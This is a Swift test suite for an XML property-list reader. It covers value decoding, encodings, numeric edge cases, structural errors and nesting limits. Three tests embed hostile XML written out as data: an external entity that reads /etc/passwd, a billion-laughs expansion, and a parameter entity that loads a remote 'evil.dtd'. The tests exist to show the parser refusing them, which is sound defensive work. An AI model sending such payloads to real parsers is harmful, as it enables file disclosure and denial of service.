import Testing
@testable import FerryFormats

struct PropertyListXMLReaderTests {
    let reader = XMLPropertyListReader()

    func decode(_ text: String) throws -> PropertyListValue {
        try reader.decode(Array(text.utf8))
    }

    func plist(_ body: String) -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
        <plist version="1.0">
        \(body)
        </plist>
        """
    }

    func error(_ text: String) -> PropertyListError? {
        do {
            _ = try reader.decode(Array(text.utf8))
            return nil
        } catch {
            return error
        }
    }

    @Test func externalEntityIsRefused() {
        let hostile = """
            <?xml version="1.0"?>
            <!DOCTYPE plist [
            <!ENTITY xxe SYSTEM "file:///etc/passwd">
            ]>
            <plist><string>&xxe;</string></plist>
            """
        #expect(error(hostile) == .xml(.entityDeclaration, line: 3))
    }

    @Test func billionLaughsIsRefused() {
        var declarations = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            let previous = String(repeating: "&lol\(level - 1);", count: 10)
            declarations += "\n<!ENTITY lol\(level) \"\(previous)\">"
        }
        let hostile = "<?xml version=\"1.0\"?>\n<!DOCTYPE plist [\n\(declarations)\n]>\n<plist><string>&lol9;</string></plist>"
        #expect(error(hostile) == .xml(.entityDeclaration, line: 3))
    }

    @Test func parameterEntityIsRefused() {
        let hostile = """
            <?xml version="1.0"?>
            <!DOCTYPE plist [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
            <plist><string>x</string></plist>
            """
        #expect(error(hostile) == .xml(.entityDeclaration, line: 2))
    }

    @Test func undeclaredEntityIsAnError() {
        #expect(error(plist("<string>&nbsp;</string>")) != nil)
        #expect(error("<plist><string>&nbsp;</string></plist>") != nil)
    }

    @Test func predefinedAndCharacterReferencesAreText() throws {
        #expect(try decode(plist("<string>&lt;&amp;&gt;&quot;&apos;&#169;&#x263A;</string>")) == .string("<&>\"'©☺"))
        #expect(try decode(plist("<string><![CDATA[<raw> & text]]></string>")) == .string("<raw> & text"))
    }

    @Test func encodingsOtherThanUTF8AndUTF16AreRejected() {
        let latin1 = Array("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><plist><string>caf".utf8) + [0xE9] + Array("</string></plist>".utf8)
        #expect(throws: PropertyListError.xml(.unsupportedEncoding("ISO-8859-1"), line: 1)) { try reader.decode(latin1) }
        let badUTF8 = Array("<?xml version=\"1.0\" encoding=\"UTF-8\"?><plist><string>caf".utf8) + [0xE9] + Array("</string></plist>".utf8)
        #expect(throws: PropertyListError.self) { try reader.decode(badUTF8) }
    }

    @Test func utf16DocumentsAreRead() throws {
        let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><plist><string>天翼 ★</string></plist>"
        var bigEndian: [UInt8] = [0xFE, 0xFF]
        for unit in text.utf16 { bigEndian += [UInt8(unit >> 8), UInt8(unit & 0xFF)] }
        #expect(try reader.decode(bigEndian) == .string("天翼 ★"))
        var littleEndian: [UInt8] = [0xFF, 0xFE]
        for unit in text.utf16 { littleEndian += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        #expect(try reader.decode(littleEndian) == .string("天翼 ★"))
    }

    @Test func everyElementKindDecodes() throws {
        let value = try decode(plist("""
            <dict>
            \t<key>s</key><string> spaced\ttext </string>
            \t<key>empty</key><string/>
            \t<key>i</key><integer> -42 </integer>
            \t<key>hex</key><integer>0xDEADBEEF</integer>
            \t<key>negativeHex</key><integer>-0x10</integer>
            \t<key>max</key><integer>170141183460469231731687303715884105727</integer>
            \t<key>min</key><integer>-170141183460469231731687303715884105728</integer>
            \t<key>r</key><real>1.5e3</real>
            \t<key>t</key><true/>
            \t<key>f</key><false/>
            \t<key>d</key><date>2001-01-01T00:00:01Z</date>
            \t<key>data</key><data>
            \t\tqrvM
            \t\t3QAR IjM=
            \t</data>
            \t<key>a</key><array><integer>1</integer><array/></array>
            \t<key>nested</key><dict/>
            \t<key>uid</key><dict><key>CF$UID</key><integer>7</integer></dict>
            </dict>
            """))
        #expect(value == .dictionary([
            "s": .string(" spaced\ttext "), "empty": .string(""),
            "i": .integer(-42), "hex": .integer(0xDEADBEEF), "negativeHex": .integer(-16),
            "max": .integer(Int128.max), "min": .integer(Int128.min), "r": .real(1500),
            "t": .bool(true), "f": .bool(false), "d": .date(1),
            "data": .data([0xAA, 0xBB, 0xCC, 0xDD, 0x00, 0x11, 0x22, 0x33]),
            "a": .array([.integer(1), .array([])]), "nested": .dictionary([:]), "uid": .uid(7),
        ]))
    }

    @Test(arguments: [("nan", Double.nan), ("NaN", .nan), ("+infinity", .infinity), ("-infinity", -.infinity),
                      ("inf", .infinity), ("-inf", -.infinity), ("Infinity", .infinity), ("-0.0", -0.0), (".5", 0.5)])
    func specialReals(_ text: String, _ expected: Double) throws {
        guard case .real(let value) = try decode(plist("<real>\(text)</real>")) else { Issue.record("not a real"); return }
        #expect(value.bitPattern == expected.bitPattern || (value.isNaN && expected.isNaN))
    }

    @Test("a <real> no Double holds keeps its text (1e400 refused the document, 1e-400 was read as 0); zero and subnormals are reals",
          arguments: [("1e-400", PropertyListValue.unrepresentableReal("1e-400")), (" -1E400 ", .unrepresentableReal("-1E400")),
                      ("2e-324", .unrepresentableReal("2e-324")), ("0x1p-1100", .unrepresentableReal("0x1p-1100")),
                      ("\(Double.leastNormalMagnitude / 4)", .real(.leastNormalMagnitude / 4)), ("5e-324", .real(.leastNonzeroMagnitude)), ("0e-400", .real(0)),
                      ("-0.000e999", .real(-0.0)), ("0x0p-2000", .real(0)), ("1.7976931348623157e308", .real(.greatestFiniteMagnitude))])
    func realsNoDoubleHolds(_ text: String, _ expected: PropertyListValue) throws {
        #expect(try decode(plist("<real>\(text)</real>")) == expected)
    }

    @Test("a real no Double holds is written back as read in XML, and refused by the binary writer with its key path")
    func realsNoDoubleHoldsAreWritten() throws {
        let value = PropertyListValue.dictionary(["tiny": .unrepresentableReal("1e-400")])
        #expect(try reader.decode(try XMLPropertyListWriter().encode(value)) == value)
        #expect(throws: PropertyListError.unencodable(reason: "the real 1e-400 is beyond what a binary property list's Double holds", keyPath: "/tiny")) {
            try BinaryPropertyListWriter().encode(value)
        }
    }

    @Test func invalidScalarsReportTheirLine() {
        #expect(error(plist("<array>\n<integer>12a</integer>\n</array>")) == .xml(.invalidInteger("12a"), line: 5))
        #expect(error(plist("<integer>170141183460469231731687303715884105728</integer>")) != nil)
        #expect(error(plist("<integer></integer>")) == .xml(.invalidInteger(""), line: 4))
        #expect(error(plist("<real>one</real>")) == .xml(.invalidReal("one"), line: 4))
        #expect(error(plist("<date>2001-02-29T00:00:00Z</date>")) == .xml(.invalidDate("2001-02-29T00:00:00Z"), line: 4))
        #expect(error(plist("<date>2001-01-01 00:00:00</date>")) != nil)
        #expect(error(plist("<data>qrv*</data>")) == .xml(.invalidBase64, line: 4))
        #expect(error(plist("<data>q</data>")) == .xml(.invalidBase64, line: 4))
    }

    @Test func structuralErrors() {
        #expect(error(plist("<string>a</string><string>b</string>")) == .xml(.invalidRoot, line: 3))
        #expect(error(plist("")) == .xml(.invalidRoot, line: 3))
        #expect(error(plist("<dict><key>a</key></dict>")) == .xml(.invalidDictionary("a <key> without a value"), line: 4))
        #expect(error(plist("<dict><string>a</string><string>b</string></dict>")) == .xml(.invalidDictionary("expected <key>, found <string>"), line: 4))
        #expect(error(plist("<array>loose text</array>")) == .xml(.unexpectedText, line: 4))
        #expect(error(plist("<object/>")) == .xml(.unexpectedElement("object"), line: 4))
        #expect(error(plist("<string>a<b/></string>")) == .xml(.unexpectedElement("b"), line: 4))
        guard case .xml(.malformed, let line)? = error(plist("<array>\n<string>a</array>")) else { Issue.record("not malformed"); return }
        #expect(line == 5)
    }

    @Test func duplicateKeysLastWins() throws {
        #expect(try decode(plist("<dict><key>k</key><integer>1</integer><key>k</key><integer>2</integer></dict>")) == .dictionary(["k": .integer(2)]))
    }

    @Test func bareRootValueWithoutPlistElement() throws {
        #expect(try decode("<dict><key>a</key><true/></dict>") == .dictionary(["a": .bool(true)]))
    }

    @Test func nestingIsLimited() {
        let deep = String(repeating: "<array>", count: 100) + String(repeating: "</array>", count: 100)
        #expect(XMLPropertyListReader(maxDepth: 50).decodeError(deep) == .xml(.nestingTooDeep(limit: 50), line: 1))
        let tooDeepForLibXML = String(repeating: "<array>", count: 10_000) + String(repeating: "</array>", count: 10_000)
        #expect(error(tooDeepForLibXML) != nil)
    }
}

extension XMLPropertyListReader {
    func decodeError(_ text: String) -> PropertyListError? {
        do {
            _ = try decode(Array(text.utf8))
            return nil
        } catch {
            return error
        }
    }
}
